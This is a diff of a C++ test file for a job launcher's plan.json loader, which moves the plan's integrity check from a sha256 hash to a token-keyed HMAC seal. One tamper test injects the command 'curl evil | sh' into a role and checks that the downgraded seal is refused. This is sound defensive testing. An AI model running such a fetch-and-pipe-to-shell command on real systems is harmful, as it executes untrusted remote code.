@@ -1,13 +1,12 @@
 #include "libpai/plan_json.h"
 
-#include <openssl/evp.h>
-
 #include <catch2/catch.hpp>
 #include <cstdio>
 #include <filesystem>
 #include <fstream>
 #include <functional>
 #include <nlohmann/json.hpp>
+#include <optional>
 
 #include "support/plan_fixture.h"
 
@@ -15,27 +14,17 @@ namespace {
 
 using nlohmann::json;
 
-std::string error_of(const std::string& text) {
+// The job token the plans of these tests are sealed with, as pai-compile seals them.
+const pai::JobToken kToken{"0123456789abcdef0123456789abcdef", "job.token"};
+
+std::string error_of(const std::string& text, const std::optional<pai::JobToken>& token = kToken) {
   try {
-    pai::plan_from_json(text, "plan.json");
+    pai::plan_from_json(text, "plan.json", token);
   } catch (const pai::PlanError& e) {
     return e.what();
   }
   FAIL("plan_from_json accepted the text");
   return "";
-}
-
-std::string sha256(const std::string& text) {
-  unsigned char digest[EVP_MAX_MD_SIZE];
-  unsigned int size = 0;
-  REQUIRE(EVP_Digest(text.data(), text.size(), digest, &size, EVP_sha256(), nullptr) == 1);
-  std::string hex;
-  char byte[3];
-  for (unsigned int i = 0; i < size; ++i) {
-    std::snprintf(byte, sizeof byte, "%02x", digest[i]);
-    hex += byte;
-  }
-  return "sha256:" + hex;
 }
 
 // Every object member of `value` with its path as plan_from_json names it, plus a flag for
@@ -84,27 +73,37 @@ std::string expected_type(const json& v) {
   return "expected an object";
 }
 
+// `document` sealed again with kToken, as if pai-compile had written it.
 std::string rehash(json document) {
   document.erase("hash");
-  document["hash"] = sha256(document.dump(2));
+  document["hash"] = pai::keyed_seal(document.dump(2), kToken.secret);
   return document.dump(2) + "\n";
 }
 
 }  // namespace
 
-TEST_CASE("plan_to_json is canonical - hashed and round-trips") {
+TEST_CASE("plan_to_json is canonical - sealed with the token and round-trips") {
   pai::Plan plan = pai::testing::make_test_plan(2, 2);
-  std::string text = pai::plan_to_json(plan);
-  CHECK(text == pai::plan_to_json(plan));
+  std::string text = pai::plan_to_json(plan, kToken.secret);
+  CHECK(text == pai::plan_to_json(plan, kToken.secret));
   CHECK(text.back() == '\n');
   json document = json::parse(text);
   CHECK(text == document.dump(2) + "\n");
   std::string hash = document["hash"];
   document.erase("hash");
-  CHECK(hash == sha256(document.dump(2)));
+  CHECK(hash == pai::keyed_seal(document.dump(2), kToken.secret));
+  CHECK(hash.starts_with("hmac-sha256:"));
+  CHECK(hash == pai::plan_seal(plan, kToken.secret));
+  // Another token, another seal; the same content.
+  json other = json::parse(pai::plan_to_json(plan, "another-token"));
+  CHECK(other["hash"] != hash);
+  other.erase("hash");
+  CHECK(other == document);
+  CHECK_THROWS_AS(pai::plan_to_json(plan, ""), std::invalid_argument);
 
-  pai::Plan back = pai::plan_from_json(text, "plan.json");
-  CHECK(pai::plan_to_json(back) == text);
+  pai::Plan back = pai::plan_from_json(text, "plan.json", kToken);
+  CHECK(pai::plan_to_json(back, kToken.secret) == text);
+  CHECK(back.seal == hash);
   CHECK(back.roles.size() == 2);
   CHECK(back.placements[2].role_index == 1);
   CHECK(back.placements[2].ports.at("grpc") == std::vector<int>{20000, 20001});
@@ -121,9 +120,9 @@ TEST_CASE("hostile strings survive plan.json with a valid hash") {
   plan.roles[0].env = {{"A", valid}, {"B", "invalid \xff\xc3 utf-8"}};
   plan.roles[0].command = {"sh", "-c", valid};
   plan.output = valid;
-  std::string text = pai::plan_to_json(plan);
+  std::string text = pai::plan_to_json(plan, kToken.secret);
   CHECK(text == json::parse(text).dump(2) + "\n");
-  pai::Plan back = pai::plan_from_json(text, "plan.json");
+  pai::Plan back = pai::plan_from_json(text, "plan.json", kToken);
   CHECK(back.roles[0].env[0].second == valid);
   CHECK(back.roles[0].env[1].second == "invalid \xef\xbf\xbd\xef\xbf\xbd utf-8");
   CHECK(back.roles[0].command[2] == valid);
@@ -134,17 +133,17 @@ TEST_CASE("plan_to_json writes role env and ports in key order whatever the plan
   pai::Plan plan = pai::testing::make_test_plan(1, 1);
   plan.roles[0].env = {{"Z", "1"}, {"A", "2"}};
   plan.roles[0].ports = {{"zeta", 1}, {"alpha", 2}};
-  std::string text = pai::plan_to_json(plan);
+  std::string text = pai::plan_to_json(plan, kToken.secret);
   CHECK(text == json::parse(text).dump(2) + "\n");
-  pai::Plan back = pai::plan_from_json(text, "plan.json");
+  pai::Plan back = pai::plan_from_json(text, "plan.json", kToken);
   CHECK(back.roles[0].env ==
         std::vector<std::pair<std::string, std::string>>{{"A", "2"}, {"Z", "1"}});
   CHECK(back.roles[0].ports[0].label == "alpha");
 }
 
 TEST_CASE("plan_to_json spells fields as the spec does") {
-  json document = json::parse(pai::plan_to_json(pai::testing::make_test_plan(1, 1)));
-  CHECK(document["planVersion"] == 1);
+  json document = json::parse(pai::plan_to_json(pai::testing::make_test_plan(1, 1), kToken.secret));
+  CHECK(document["planVersion"] == 2);
   CHECK(document["runtime"] == "host");
   CHECK(document["framework"] == "pytorch");
   CHECK(document["fabric"] == json{{"type", "roce"},
@@ -174,7 +173,7 @@ TEST_CASE("plan.json validates against schemas/plan.schema.json") {
     plan.inventory = inventory;
     {
       std::ofstream out(file);
-      out << pai::plan_to_json(plan);
+      out << pai::plan_to_json(plan, kToken.secret);
     }
     std::string command =
         "/usr/bin/python3 -c 'import json,sys,jsonschema; "
@@ -187,40 +186,112 @@ TEST_CASE("plan.json validates against schemas/plan.schema.json") {
   fs::remove(file);
 }
 
-TEST_CASE("a tampered plan fails the hash check") {
-  std::string text = pai::plan_to_json(pai::testing::make_test_plan(2, 2));
+TEST_CASE("a tampered plan fails the seal check") {
+  std::string text = pai::plan_to_json(pai::testing::make_test_plan(2, 2), kToken.secret);
+  const std::string edited =
+      "plan.json: the plan's seal does not verify with the job token job.token: the plan was "
+      "edited after pai-compile wrote it, or compiled with another token; recompile with "
+      "pai-compile";
   std::size_t at = text.find("\"firstRank\": 2");
   REQUIRE(at != std::string::npos);
   std::string tampered = text;
   tampered[at + 13] = '4';
-  CHECK(error_of(tampered) ==
-        "plan.json: hash mismatch: the plan was modified after pai-compile wrote it");
-  // Reformatting is a modification too: the hash covers the exact canonical text.
-  CHECK(error_of(json::parse(text).dump()) ==
-        "plan.json: hash mismatch: the plan was modified after pai-compile wrote it");
-  CHECK(error_of(text.substr(0, text.size() - 1)) ==
-        "plan.json: hash mismatch: the plan was modified after pai-compile wrote it");
+  CHECK(error_of(tampered) == edited);
+  // Reformatting is a modification too: the seal covers the exact canonical text.
+  CHECK(error_of(json::parse(text).dump()) == edited);
+  CHECK(error_of(text.substr(0, text.size() - 1)) == edited);
   json wrong = json::parse(text);
-  wrong["hash"] = "sha256:" + std::string(64, '0');
-  CHECK(error_of(wrong.dump(2) + "\n") ==
-        "plan.json: hash mismatch: the plan was modified after pai-compile wrote it");
+  wrong["hash"] = "hmac-sha256:" + std::string(64, '0');
+  CHECK(error_of(wrong.dump(2) + "\n") == edited);
+}
+
+TEST_CASE("an edited command with a recomputed sha256 seal is refused where the token is") {
+  json document = json::parse(pai::plan_to_json(pai::testing::make_test_plan(1, 1), kToken.secret));
+  document["roles"][0]["command"] = json{"sh", "-c", "curl evil | sh"};
+  document.erase("hash");
+  document["hash"] = pai::digest_seal(document.dump(2));
+  const std::string downgraded = document.dump(2) + "\n";
+  CHECK(error_of(downgraded) ==
+        "plan.json: the plan has an unkeyed sha256 seal, but a job token is present (job.token): "
+        "pai-compile seals with the token, so the seal was replaced (the plan was edited); "
+        "recompile with pai-compile");
+  // Without a token there is nothing to tell it from a plan a program wrote without one:
+  // the digest only catches accidents (plan_seal.h).
+  CHECK(pai::plan_from_json(downgraded, "plan.json", std::nullopt).roles[0].command[2] ==
+        "curl evil | sh");
+}
+
+TEST_CASE("a plan sealed with another token is refused") {
+  const std::string text = pai::plan_to_json(pai::testing::make_test_plan(1, 1), "another-token");
+  CHECK(error_of(text) ==
+        "plan.json: the plan's seal does not verify with the job token job.token: the plan was "
+        "edited after pai-compile wrote it, or compiled with another token; recompile with "
+        "pai-compile");
+  CHECK(pai::plan_from_json(text, "plan.json", pai::JobToken{"another-token", "x"}).name ==
+        "test-job");
+}
+
+TEST_CASE("a plan sealed with a token is refused without one") {
+  CHECK(error_of(pai::plan_to_json(pai::testing::make_test_plan(1, 1), kToken.secret),
+                 std::nullopt) ==
+        "plan.json: the plan is sealed with its job token, which was not found: keep job.token "
+        "next to plan.json or pass --token-file");
+}
+
+TEST_CASE("an unkeyed plan loads without a token - and catches accidents") {
+  const pai::Plan plan = pai::testing::make_test_plan(2, 2);
+  const std::string text = pai::plan_to_json_unkeyed(plan);
+  json document = json::parse(text);
+  const std::string hash = document["hash"];
+  document.erase("hash");
+  CHECK(hash == pai::digest_seal(document.dump(2)));
+  // The same canonical text as the keyed form, only the seal differs.
+  json keyed = json::parse(pai::plan_to_json(plan, kToken.secret));
+  keyed.erase("hash");
+  CHECK(keyed == document);
+
+  const pai::Plan back = pai::plan_from_json(text, "plan.json", std::nullopt);
+  CHECK(back.seal == hash);
+  CHECK(pai::plan_to_json_unkeyed(back) == text);
+  std::string truncated = text.substr(0, text.size() - 1);
+  CHECK(error_of(truncated, std::nullopt) ==
+        "plan.json: hash mismatch: the plan was modified after it was written; recompile with "
+        "pai-compile");
 }
 
 TEST_CASE("a plan from a newer compiler is refused") {
-  json document = json::parse(pai::plan_to_json(pai::testing::make_test_plan(1, 1)));
-  document["planVersion"] = 2;
+  json document = json::parse(pai::plan_to_json(pai::testing::make_test_plan(1, 1), kToken.secret));
+  document["planVersion"] = 3;
   CHECK(
       error_of(rehash(document)) ==
-      "plan.json: planVersion 2 is newer than this pai-launch understands (1); upgrade pai-launch");
+      "plan.json: planVersion 3 is newer than this pai-launch understands (2); upgrade pai-launch");
   document["somethingNew"] = true;
   document.erase("roles");
   CHECK(
       error_of(document.dump()) ==
-      "plan.json: planVersion 2 is newer than this pai-launch understands (1); upgrade pai-launch");
+      "plan.json: planVersion 3 is newer than this pai-launch understands (2); upgrade pai-launch");
+}
+
+TEST_CASE("a plan below the lowest planVersion is refused - recompile") {
+  json document = json::parse(pai::plan_to_json(pai::testing::make_test_plan(1, 1), kToken.secret));
+  const std::string old =
+      "plan.json: planVersion 1 is older than this pai-launch accepts (2 or newer); recompile "
+      "the job with pai-compile";
+  document["planVersion"] = 1;
+  CHECK(error_of(rehash(document)) == old);
+  CHECK(error_of(rehash(document), std::nullopt) == old);
+  // Before its fields or its seal: a version-1 plan's sha256 seal is not the question.
+  document["somethingOld"] = true;
+  document["hash"] = "sha256:" + std::string(64, '0');
+  CHECK(error_of(document.dump()) == old);
+  document["planVersion"] = -5;
+  CHECK(error_of(document.dump()) ==
+        "plan.json: planVersion -5 is older than this pai-launch accepts (2 or newer); recompile "
+        "the job with pai-compile");
 }
 
 TEST_CASE("every missing field is named by its path") {
-  json document = json::parse(pai::plan_to_json(pai::testing::make_test_plan(1, 2)));
+  json document = json::parse(pai::plan_to_json(pai::testing::make_test_plan(1, 2), kToken.secret));
   int checked = 0;
   walk(document, "", false, [&](const std::string& path, const json&, bool in_map) {
     if (in_map) return;
@@ -235,7 +306,7 @@ TEST_CASE("every missing field is named by its path") {
 }
 
 TEST_CASE("every mistyped field is named by its path") {
-  json document = json::parse(pai::plan_to_json(pai::testing::make_test_plan(1, 2)));
+  json document = json::parse(pai::plan_to_json(pai::testing::make_test_plan(1, 2), kToken.secret));
   int checked = 0;
   walk(document, "", false, [&](const std::string& path, const json& value, bool) {
     json broken = document;
@@ -255,7 +326,7 @@ TEST_CASE("every mistyped field is named by its path") {
 }
 
 TEST_CASE("values out of range or inconsistent are refused") {
-  json document = json::parse(pai::plan_to_json(pai::testing::make_test_plan(1, 2)));
+  json document = json::parse(pai::plan_to_json(pai::testing::make_test_plan(1, 2), kToken.secret));
   json broken = document;
   broken["roles"][0]["nprocPerNode"] = 0;
   CHECK(error_of(broken.dump()) ==
@@ -280,7 +351,7 @@ TEST_CASE("values out of range or inconsistent are refused") {
 }
 
 TEST_CASE("every duration of a plan is bounded by 365 days") {
-  json document = json::parse(pai::plan_to_json(pai::testing::make_test_plan(1, 2)));
+  json document = json::parse(pai::plan_to_json(pai::testing::make_test_plan(1, 2), kToken.secret));
   for (const char* path :
        {"faultTolerance.gracePeriodSeconds", "faultTolerance.restart.backoffSeconds",
         "faultTolerance.hang.intervalSeconds", "faultTolerance.hang.exitIntervalSeconds",
@@ -297,12 +368,12 @@ TEST_CASE("every duration of a plan is bounded by 365 days") {
     CHECK(error_of(broken.dump()) ==
           "plan.json: " + std::string(path) + ": expected seconds from 0 to 31536000 (365d), got -1");
     broken[pointer(path)] = 31536000;
-    CHECK_NOTHROW(pai::plan_from_json(rehash(broken), "plan.json"));
+    CHECK_NOTHROW(pai::plan_from_json(rehash(broken), "plan.json", kToken));
   }
 }
 
 TEST_CASE("every unknown field is refused") {
-  json document = json::parse(pai::plan_to_json(pai::testing::make_test_plan(1, 2)));
+  json document = json::parse(pai::plan_to_json(pai::testing::make_test_plan(1, 2), kToken.secret));
   int checked = 0;
   walk(document, "", false, [&](const std::string& path, const json& value, bool in_map) {
     if (!value.is_object() || path.ends_with(".env") || path.ends_with(".ports")) return;
@@ -346,14 +417,15 @@ TEST_CASE("malformed JSON is reported with its position") {
   CHECK(error_of(" 77773e3775") == "plan.json: invalid JSON: number overflow parsing '77773e3775'");
 }
 
-TEST_CASE("role_to_json holds the role - its placements and the plan's hash") {
+TEST_CASE("role_to_json holds the role - its placements and the plan's seal") {
   pai::Plan plan = pai::testing::make_test_plan(2, 2);
-  json role = json::parse(pai::role_to_json(plan, plan.roles[0]));
-  json whole = json::parse(pai::plan_to_json(plan));
+  json role =
+      json::parse(pai::role_to_json(plan, plan.roles[0], pai::plan_seal(plan, kToken.secret)));
+  json whole = json::parse(pai::plan_to_json(plan, kToken.secret));
   CHECK(role["planHash"] == whole["hash"]);
   CHECK(role["role"] == whole["roles"][0]);
   CHECK(role["placements"] == json{whole["placements"][0], whole["placements"][1]});
-  std::string text = pai::role_to_json(plan, plan.roles[1]);
+  std::string text = pai::role_to_json(plan, plan.roles[1], pai::plan_seal(plan, kToken.secret));
   CHECK(text == json::parse(text).dump(2) + "\n");
   CHECK(json::parse(text)["placements"].size() == 1);
 }
@@ -364,15 +436,15 @@ TEST_CASE("load_plan_file reads a file and names it in errors") {
       fs::temp_directory_path() / ("pai-plan-load-" + std::to_string(::getpid()) + ".json");
   {
     std::ofstream out(file);
-    out << pai::plan_to_json(pai::testing::make_test_plan(1, 1));
+    out << pai::plan_to_json(pai::testing::make_test_plan(1, 1), kToken.secret);
   }
-  CHECK(pai::load_plan_file(file.string()).name == "test-job");
+  CHECK(pai::load_plan_file(file.string(), kToken).name == "test-job");
   {
     std::ofstream out(file);
     out << "{";
   }
   try {
-    pai::load_plan_file(file.string());
+    pai::load_plan_file(file.string(), kToken);
     FAIL("no error");
   } catch (const pai::PlanError& e) {
     CHECK(std::string(e.what()).starts_with(file.string() +
@@ -380,7 +452,7 @@ TEST_CASE("load_plan_file reads a file and names it in errors") {
   }
   fs::remove(file);
   try {
-    pai::load_plan_file("/nonexistent/plan.json");
+    pai::load_plan_file("/nonexistent/plan.json", kToken);
     FAIL("no error");
   } catch (const pai::PlanError& e) {
     CHECK(std::string(e.what()) ==
@@ -390,8 +462,8 @@ TEST_CASE("load_plan_file reads a file and names it in errors") {
 
 TEST_CASE("plan.json for 10000 nodes is written and read back") {
   pai::Plan plan = pai::testing::make_test_plan(10000, 8);
-  std::string text = pai::plan_to_json(plan);
-  pai::Plan back = pai::plan_from_json(text, "plan.json");
+  std::string text = pai::plan_to_json(plan, kToken.secret);
+  pai::Plan back = pai::plan_from_json(text, "plan.json", kToken);
   CHECK(back.placements.size() == 10001);
   CHECK(back.world_size == plan.world_size);
   // Speed is bench/compile's business (design §10), never a timed test.
@@ -399,27 +471,29 @@ TEST_CASE("plan.json for 10000 nodes is written and read back") {
 
 TEST_CASE("the inventory member is written only for a non-static inventory") {
   pai::Plan plan = pai::testing::make_test_plan(1, 2);
-  json document = json::parse(pai::plan_to_json(plan));
+  json document = json::parse(pai::plan_to_json(plan, kToken.secret));
   CHECK_FALSE(document.contains("inventory"));
-  CHECK(pai::plan_from_json(pai::plan_to_json(plan), "plan.json").inventory ==
-        pai::Inventory::Static);
+  CHECK(
+      pai::plan_from_json(pai::plan_to_json(plan, kToken.secret), "plan.json", kToken).inventory ==
+      pai::Inventory::Static);
 
   plan.inventory = pai::Inventory::Slurm;
-  const std::string text = pai::plan_to_json(plan);
+  const std::string text = pai::plan_to_json(plan, kToken.secret);
   CHECK(text == json::parse(text).dump(2) + "\n");
   document = json::parse(text);
   CHECK(document["inventory"] == "slurm");
-  pai::Plan back = pai::plan_from_json(text, "plan.json");
+  pai::Plan back = pai::plan_from_json(text, "plan.json", kToken);
   CHECK(back.inventory == pai::Inventory::Slurm);
-  CHECK(pai::plan_to_json(back) == text);
+  CHECK(pai::plan_to_json(back, kToken.secret) == text);
 
   // Written by hand, "static" means what an absent member means.
   document["inventory"] = "static";
-  CHECK(pai::plan_from_json(rehash(document), "plan.json").inventory == pai::Inventory::Static);
+  CHECK(pai::plan_from_json(rehash(document), "plan.json", kToken).inventory ==
+        pai::Inventory::Static);
 }
 
 TEST_CASE("an unknown or mistyped inventory is refused") {
-  json document = json::parse(pai::plan_to_json(pai::testing::make_test_plan(1, 2)));
+  json document = json::parse(pai::plan_to_json(pai::testing::make_test_plan(1, 2), kToken.secret));
   document["inventory"] = "pbs";
   CHECK(error_of(rehash(document)) ==
         "plan.json: inventory: expected one of static, slurm, got \"pbs\"");
